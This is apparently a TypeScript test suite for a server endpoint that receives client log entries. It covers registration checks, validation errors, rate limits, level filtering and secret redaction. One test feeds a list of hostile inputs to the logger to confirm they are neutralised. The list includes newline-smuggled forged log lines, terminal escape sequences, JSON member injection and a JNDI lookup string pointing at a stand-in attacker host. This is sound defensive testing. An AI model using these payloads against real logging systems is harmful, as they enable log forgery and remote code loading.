import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { changeSetting } from '../../src/actions/settings/settings.ts';
import { registerClient, removeClient } from '../../src/administration/clients.ts';
import { clientLogLimits } from '../../src/core/log-events.ts';
import { newClientId } from '../../src/crypto/identifiers.ts';
import { noon } from '../support/database/test-rows.ts';
import { headerInjections } from '../support/inputs/header-injections.ts';
import { scriptPayloads } from '../support/inputs/script-payloads.ts';
import { startApiServer } from '../support/server/api-server.ts';

type Line = Readonly<Record<string, unknown>>;

async function startLoggingServer(t: TestContext) {
  const { ports, server, log } = await startApiServer(t);
  const clientId = newClientId();
  const name = await registerClient(ports, clientId, 'logging');
  const headersOf = (id: string | undefined): Record<string, string> =>
    id === undefined ? {} : { 'X-CS-ClientId': id };
  const post = (body: unknown, id: string | undefined = clientId, path = '/api/logs') =>
    fetch(new URL(path, server.baseUrl), {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', ...headersOf(id) },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
  const rejection = async (body: unknown, id?: string): Promise<readonly [status: number, errorCode: number]> => {
    const response = await post(body, id);
    return [response.status, ((await response.json()) as { errorCode: number }).errorCode];
  };
  const may = async (id?: string) => {
    const response = await fetch(new URL('/api/products/api.rest/logging', server.baseUrl), { headers: headersOf(id) });
    return ((await response.json()) as { data: unknown }).data;
  };
  /** Returns the log entries of clients so far. Every line of the log must be a JSON object. */
  const clientEntries = (): readonly Line[] =>
    log()
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Line)
      .filter(({ source }) => source !== undefined);
  return { ports, log, clientId, name, post, rejection, may, clientEntries };
}

const entry = (message: string, level = 'ERROR') => ({ timestamp: '2026-03-01T10:00:00.5+01:00', level, message });
const tooMany = clientLogLimits.entriesPerCall + 1;

test('G1: returns whether a client may send its log, and from which level on', async (t) => {
  const { ports, clientId, may } = await startLoggingServer(t);
  const verifying = newClientId();
  await registerClient(ports, verifying, 'verification');
  assert.deepEqual(await may(clientId), { remoteLoggingEnabled: true, level: 'WARN' });
  for (const id of [undefined, verifying, newClientId(), 'short']) {
    assert.deepEqual(await may(id), { remoteLoggingEnabled: false, level: 'WARN' }, id);
  }
  await changeSetting(ports, 'logging.remoteLevel', 'debug');
  assert.deepEqual(await may(clientId), { remoteLoggingEnabled: true, level: 'DEBUG' });
  await removeClient(ports, clientId);
  assert.deepEqual(await may(clientId), { remoteLoggingEnabled: false, level: 'DEBUG' });
});

test('G2: each entry of a registered client is one line of the log, marked as coming from a client', async (t) => {
  const { name, post, clientEntries } = await startLoggingServer(t);
  const response = await post([entry('one'), { ...entry('two', 'warn'), source: 'server', more: [1] }]);
  assert.deepEqual([response.status, await response.text()], [200, '']);
  const requestId = response.headers.get('x-request-id');
  const common = {
    level: 'info',
    time: noon.toISOString(),
    requestId,
    event: 'client.entry',
    source: 'client',
    client: name,
  };
  const clientTime = '2026-03-01T09:00:00.500Z';
  assert.deepEqual(clientEntries(), [
    { ...common, clientTime, clientLevel: 'error', clientMessage: 'one', msg: 'client log entry' },
    { ...common, clientTime, clientLevel: 'warn', clientMessage: 'two', msg: 'client log entry' },
  ]);
  assert.equal((await post([])).status, 200);
  assert.equal(clientEntries().length, 2);
});

test('G3: a client not registered for logging gets 403 / 3004, also right after its removal', async (t) => {
  const { ports, clientId, post, rejection, clientEntries } = await startLoggingServer(t);
  const verifying = newClientId();
  await registerClient(ports, verifying, 'verification');
  for (const id of ['', verifying, newClientId(), 'short', 'a'.repeat(4_001)]) {
    assert.deepEqual(await rejection([entry('x')], id), [403, 3004], id.slice(0, 9));
  }
  assert.equal((await post([entry('in the query')], '', `/api/logs?client-id=${clientId}`)).status, 200);
  await removeClient(ports, clientId);
  assert.deepEqual(await rejection([entry('x')]), [403, 3004]);
  assert.deepEqual(
    clientEntries().map(({ clientMessage }) => clientMessage),
    ['in the query'],
  );
});

const forged = '{"level":"fatal","time":"2026-01-01T00:00:00.000Z","msg":"the keys are gone"}';
const hostile = [
  'a\r\nb',
  `a\n${forged}`,
  `a\r${forged}\r`,
  `a\u2028${forged}\u2029`,
  `a\u0085${forged}`,
  `","source":"server","level":"fatal","clientMessage":"`,
  `"}\n${forged}\n{"a":"`,
  forged,
  '\0',
  'a\0b',
  '\u001b[2J\u001b[1;1Hgone',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  '\b\b\b\b\u007f',
  '\u202egpj.exe',
  '\u2066a\u2069\u200e\u200f\u061c',
  'zero\u200bwidth\ufeff',
  '\u{e0041}\u{e007f}',
  '\ue000\u{10fffd}\uffff',
  '%0a%0d%00',
  '\\n\\u000a\\x1b[31m',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers evaluate such expressions
  '${jndi:ldap://evil.example/a}',
  '%s %d %o %j %n',
  '[Circular]',
  '🦭 Grüße, 世界, שלום',
  '',
  ' ',
  'x'.repeat(clientLogLimits.messageLength),
  '\n'.repeat(clientLogLimits.messageLength),
  '🦭'.repeat(clientLogLimits.messageLength),
];

test('G4: hostile lines stay one entry each, forge nothing, and contain no control sequence', async (t) => {
  const { ports, log, name, post, clientEntries } = await startLoggingServer(t);
  const borrowed = [...headerInjections, ...scriptPayloads].map((text) => text.slice(0, clientLogLimits.messageLength));
  const messages = [...hostile, ...borrowed].filter((message) => message.isWellFormed());
  assert.ok(messages.length > 400);
  for (let start = 0; start < messages.length; start += clientLogLimits.entriesPerCall) {
    // Each entry gets its own minute, to stay below the client's limit.
    ports.clock.set(new Date(noon.getTime() + start * 60_000));
    const part = messages.slice(start, start + clientLogLimits.entriesPerCall);
    assert.equal((await post(part.map((message) => entry(message)))).status, 200);
  }
  const lines = clientEntries();
  assert.equal(lines.length, messages.length);
  const members = [
    'level',
    'time',
    'requestId',
    'event',
    'source',
    'client',
    'clientTime',
    'clientLevel',
    'clientMessage',
    'msg',
  ];
  for (const [index, line] of lines.entries()) {
    const hint = JSON.stringify(messages[index]).slice(0, 60);
    assert.deepEqual(Object.keys(line), members, hint);
    const { level, source, client, clientLevel, msg, clientMessage } = line;
    assert.deepEqual(
      [level, source, client, clientLevel, msg],
      ['info', 'client', name, 'error', 'client log entry'],
      hint,
    );
    assert.equal(typeof clientMessage, 'string', hint);
    assert.ok(String(clientMessage).length <= clientLogLimits.messageLength + 1, hint);
  }
  assert.doesNotMatch(log().replaceAll('\n', ''), /[\p{C}\p{Zl}\p{Zp}]/u);
  // A parser would use the last of two members with the same name.
  for (const line of log().trimEnd().split('\n')) assert.ok((line.match(/[^\\]"source":/g)?.length ?? 0) <= 1, line);
  const plain = lines.find(({ clientMessage }) => clientMessage === '🦭 Grüße, 世界, שלום');
  assert.ok(plain, 'what can be seen stays as it is');
  assert.equal(lines[0]?.['clientMessage'], 'a\\u{d}\\u{a}b');
});

test('G5: rejects a body that is not a list of entries as a whole, and logs nothing of it', async (t) => {
  const { rejection, clientEntries } = await startLoggingServer(t);
  const good = entry('good');
  for (const [body, numbers] of [
    ['', [400, 1002]],
    ['null', [400, 1004]],
    ['{}', [400, 1004]],
    [JSON.stringify(good), [400, 1004]],
    ['[{"timestamp":"2026-03-01T10:00:00Z","level":"INFO","message":"\\ud800"}]', [400, 1004]],
    [
      [good, null],
      [400, 1004],
    ],
    [
      [good, {}],
      [400, 1002],
    ],
    [
      [good, { ...good, message: undefined }],
      [400, 1002],
    ],
    [
      [good, { ...good, message: 7 }],
      [400, 1004],
    ],
    [
      [good, { ...good, message: ['a'] }],
      [400, 1004],
    ],
    [
      [good, { ...good, message: 'x'.repeat(clientLogLimits.messageLength + 1) }],
      [400, 1004],
    ],
    [
      [good, { ...good, level: 'LOUD' }],
      [400, 1004],
    ],
    [
      [good, { ...good, level: 'info\n' }],
      [400, 1004],
    ],
    [
      [good, { ...good, level: 30 }],
      [400, 1004],
    ],
    [
      [good, { ...good, timestamp: 'now' }],
      [400, 1004],
    ],
    [
      [good, { ...good, timestamp: '2026-03-01' }],
      [400, 1004],
    ],
    [
      [good, { ...good, timestamp: 1_772_359_200_000 }],
      [400, 1004],
    ],
    [Array(tooMany).fill(good), [400, 1004]],
    [Array(90).fill(entry('x'.repeat(4_000))), [413, 2008]],
  ] as const) {
    assert.deepEqual(await rejection(body), numbers, JSON.stringify(body).slice(0, 99));
  }
  assert.deepEqual(clientEntries(), []);
});

test('G6: more entries per minute than allowed are 429 / 2007, the whole request', async (t) => {
  const { ports, post, rejection, clientEntries } = await startLoggingServer(t);
  const other = newClientId();
  await registerClient(ports, other, 'logging');
  const calls = clientLogLimits.entriesPerMinute / clientLogLimits.entriesPerCall;
  const full = Array(clientLogLimits.entriesPerCall).fill(entry('x'));
  for (let call = 1; call < calls; call += 1) assert.equal((await post(full)).status, 200);
  assert.equal((await post(full.slice(1))).status, 200);
  const before = clientEntries().length;
  assert.equal(before, clientLogLimits.entriesPerMinute - 1);
  ports.clock.set(new Date(noon.getTime() + 20_000));
  const response = await post(full.slice(0, 2));
  assert.deepEqual([response.status, response.headers.get('retry-after')], [429, '40']);
  assert.deepEqual(await rejection([entry('x')]), [429, 2007]);
  assert.equal(clientEntries().length, before);
  assert.equal((await post(full, other)).status, 200, 'another client is not hit by it');
  ports.clock.set(new Date(noon.getTime() + 60_000));
  assert.equal((await post(full)).status, 200);
  assert.equal(clientEntries().length, before + 2 * full.length);
});

test('G7: accepts and drops entries below the level', async (t) => {
  const { ports, post, clientEntries } = await startLoggingServer(t);
  const all = ['trace', 'Debug', 'INFO', 'warn', 'error', 'FATAL'].map((level) => entry(level, level));
  const levels = () => clientEntries().map(({ clientLevel }) => clientLevel);
  await post(all);
  assert.deepEqual(levels(), ['warn', 'error', 'fatal']);
  await changeSetting(ports, 'logging.remoteLevel', 'trace');
  await post(all);
  assert.deepEqual(levels().slice(3), ['trace', 'debug', 'info', 'warn', 'error', 'fatal']);
});

test('G8: logs no client ID, and no value that a client names like a secret', async (t) => {
  const { log, clientId, post, clientEntries } = await startLoggingServer(t);
  const texts = [
    `I am ${clientId}`,
    'GET https://x.example/api/transfers/A?password=marker&page=1 failed',
    'https://x.example/download?id=A#password=marker',
    '/api/transfers/A/files/B?ticket=marker&product-key=server',
    'X-CS-Password: marker',
    'x-cs-verificationtoken=marker',
    'Authorization: Basic marker marker',
    'Cookie: a=marker; b=marker',
    '{"currentPassword":"marker","password":"marker"}',
    JSON.stringify(JSON.stringify({ token: 'marker', verificationCode: 'marker' })),
    'https://x.example/?next=%2Fa%3Fpassword%3Dmarker',
  ];
  assert.equal((await post(texts.map((text) => entry(text)))).status, 200);
  assert.equal(clientEntries().length, texts.length);
  assert.doesNotMatch(log(), /marker/);
  assert.ok(!log().includes(clientId));
  assert.match(log(), /\?password=\[hidden\]&page=1 failed/);
});
